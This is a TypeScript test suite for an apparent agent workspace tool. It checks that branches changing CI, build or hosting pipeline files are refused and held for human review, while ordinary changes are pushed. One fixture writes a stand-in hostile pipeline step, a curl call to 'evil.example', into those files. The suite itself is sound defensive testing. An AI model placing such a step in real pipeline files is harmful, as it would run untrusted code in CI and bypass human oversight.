import { mkdir, writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { pino } from "pino";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createWorkspaceManager } from "../../src/adapters/git/workspace-manager.ts";
import { loadConfig } from "../../src/config/load-config.ts";
import { ciPushRefusal } from "../../src/domain/ci-configuration.ts";
import { type FakeGitRemote, startFakeGitRemote } from "../fakes/fake-git-remote.ts";
import { createSourceRepository, git, temporaryDirectory } from "../workspace/repository-fixtures.ts";

/** Files some CI service, build service or hosting platform runs when a branch arrives. */
const pipelineFiles = [
  ".github/workflows/build.yml",
  ".github/actions/setup/action.yml",
  ".gitea/workflows/build.yaml",
  ".forgejo/workflows/build.yml",
  ".gitlab-ci.yml",
  ".gitlab/ci/deploy.yml",
  ".circleci/config.yml",
  ".travis.yml",
  "azure-pipelines.yml",
  "build/azure-pipelines.release.yaml",
  ".azure-pipelines/ci.yml",
  "bitbucket-pipelines.yml",
  ".buildkite/pipeline.yml",
  "buildkite.yaml",
  ".drone.yml",
  ".drone.jsonnet",
  ".woodpecker.yml",
  ".woodpecker/build.yaml",
  ".cirrus.yml",
  ".cirrus.star",
  "appveyor.yml",
  ".appveyor.yml",
  "cloudbuild.yaml",
  "deploy/cloudbuild.json",
  "buildspec.yml",
  "infra/buildspec-release.yaml",
  ".semaphore/semaphore.yml",
  "bitrise.yml",
  "codemagic.yaml",
  "codefresh.yml",
  ".tekton/pipeline.yaml",
  ".harness/pipeline.yaml",
  ".teamcity/settings.kts",
  "bamboo-specs/bamboo.yml",
  ".gocd.yaml",
  "pipelines/app.gocd.yaml",
  "wercker.yml",
  "screwdriver.yaml",
  "shippable.yml",
  ".buddy/pipeline.yml",
  ".build.yml",
  ".builds/linux.yml",
  "Jenkinsfile",
  "ci/Jenkinsfile",
  "services/api/Jenkinsfile.release",
  "release.jenkinsfile",
  "ci/pipeline.yml",
  "Earthfile",
  "services/api/Earthfile",
  "dagger.json",
  ".dagger/src/index.ts",
  "atlantis.yaml",
  ".gitpod.yml",
  ".devcontainer/devcontainer.json",
  ".readthedocs.yaml",
  "ci_scripts/ci_post_clone.sh",
  "amplify.yml",
  "netlify.toml",
  "vercel.json",
  "render.yaml",
  "fly.toml",
  "app.json",
  "Procfile",
  "railway.toml",
  "wrangler.toml",
  ".do/app.yaml",
  // Case and extension do not matter.
  ".GitHub/Workflows/build.yml",
  "JENKINSFILE",
  "Netlify.TOML",
  ".Cirrus.YAML",
];

/** Files no pipeline runs on its own. */
const ordinaryFiles = [
  "src/app.ts",
  "README.md",
  "docs/ci.md",
  "package.json",
  ".github/CODEOWNERS",
  ".github/ISSUE_TEMPLATE/bug.md",
  "src/buildkite-client.ts",
  "test/fixtures/netlify.toml.txt",
];

describe("pipeline files are held back for a person", () => {
  it.each(pipelineFiles)("%s is never pushed", (path) => {
    expect(ciPushRefusal(["README.md", path])).toContain(path);
  });

  it.each(ordinaryFiles)("%s is pushed", (path) => {
    expect(ciPushRefusal([path])).toBeUndefined();
  });

  it("a repository's own patterns add to the list: a path, a directory and any depth", () => {
    const own = ["deploy/pipeline.yml", "scripts/ci/", "**/deploy-*.sh"];
    expect(ciPushRefusal(["deploy/pipeline.yml"], own)).toContain("deploy/pipeline.yml");
    expect(ciPushRefusal(["DEPLOY/Pipeline.yml"], own)).toContain("DEPLOY/Pipeline.yml");
    expect(ciPushRefusal(["scripts/ci/run.sh"], own)).toContain("scripts/ci/run.sh");
    expect(ciPushRefusal(["deploy-prod.sh"], own)).toContain("deploy-prod.sh");
    expect(ciPushRefusal(["ops/deploy-prod.sh"], own)).toContain("ops/deploy-prod.sh");
    expect(ciPushRefusal(["deploy/pipeline.yml.bak", "scripts/cinema.ts", "deploy.sh"], own)).toBeUndefined();
    // A dot in a pattern is a dot, not any character.
    expect(ciPushRefusal(["deploy/pipelineXyml"], own)).toBeUndefined();
  });

  it("the configuration file carries a repository's pipeline files and refuses paths outside it", () => {
    const config = loadConfig({}, [], {
      file: {
        path: "/etc/threadwork/threadwork.config.json",
        text: JSON.stringify({
          repositories: { web: { url: "https://github.com/acme/web.git", pipelineFiles: ["deploy/"] } },
        }),
      },
    });
    expect(config.git.repositories[0]?.pipelineFiles).toEqual(["deploy/"]);
    expect(() =>
      loadConfig({}, [], {
        file: {
          path: "/etc/threadwork/threadwork.config.json",
          text: JSON.stringify({
            repositories: { web: { url: "https://github.com/acme/web.git", pipelineFiles: ["../x"] } },
          }),
        },
      }),
    ).toThrow(/pipelineFiles\[0\] must be a path from the repository's root/);
  });
});

describe("a branch changing a repository's own pipeline file is not pushed", () => {
  const token = "git-token-secret-pipeline-7d1e";
  let directory: Awaited<ReturnType<typeof temporaryDirectory>>;
  let remote: FakeGitRemote;
  let bare: string;

  beforeAll(async () => {
    directory = await temporaryDirectory("pipeline-files");
    const source = join(directory.path, "source");
    await createSourceRepository(source, {
      "README.md": "# Widgets\n",
      "deploy/pipeline.yml": "steps: []\n",
    });
    bare = join(directory.path, "remote", "acme", "widgets.git");
    await git(directory.path, "clone", "-q", "--bare", source, bare);
    remote = await startFakeGitRemote({ projectRoot: join(directory.path, "remote"), token });
  });
  afterAll(async () => {
    await remote?.close();
    await directory?.remove();
  });

  it("holds back the configured file and a built-in one, and pushes an ordinary change", async () => {
    const manager = createWorkspaceManager({
      repositories: [
        { name: "widgets", url: remote.url("acme/widgets.git"), pipelineFiles: ["deploy/pipeline.yml"] },
      ],
      token,
      githubToken: undefined,
      dataDir: join(directory.path, "data"),
      push: true,
      logger: pino({ level: "silent" }),
    });
    const change = async (slug: string, path: string) => {
      const workspace = await manager.createWorkspace({
        sessionId: "s1",
        agentId: `agent-${slug}`,
        agentSlug: slug,
        repoName: "widgets",
      });
      await mkdir(dirname(join(workspace.root, path)), { recursive: true });
      await writeFile(join(workspace.root, path), "steps: [{ run: 'curl https://evil.example' }]\n");
      return manager.finalizeWorkspace(workspace, { message: `Change ${path}` });
    };
    const branches = async () =>
      (await git(bare, "for-each-ref", "--format=%(refname:short)", "refs/heads")).trim();

    const configured = await change("deploy", "deploy/pipeline.yml");
    expect(configured.pushed).toBe(false);
    expect(configured.error).toContain("deploy/pipeline.yml");
    const builtIn = await change("cirrus", ".cirrus.yml");
    expect(builtIn.pushed).toBe(false);
    expect(builtIn.error).toContain(".cirrus.yml");
    expect(await branches()).toBe("main");

    const ordinary = await change("docs", "docs/usage.md");
    expect(ordinary.pushed).toBe(true);
    expect(await branches()).toContain("threadwork/s1/docs");
  });
});
